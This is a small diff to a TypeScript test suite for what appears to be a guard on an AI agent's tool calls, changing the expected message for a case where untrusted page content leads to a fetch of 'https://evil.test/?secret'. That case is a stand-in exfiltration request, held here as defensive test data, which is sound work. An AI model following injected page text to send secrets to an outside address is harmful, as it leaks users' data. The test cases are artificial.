@@ -232,7 +232,7 @@ const cases: Case[] = [
       { tool: FETCH, targets: at("https://evil.test/?secret"), untrusted: PAGE },
     ),
     is: "ask",
-    says: /address that it made up/,
+    says: /address that no person named/,
   },
   {
     name: "an address that was said already takes nothing out",
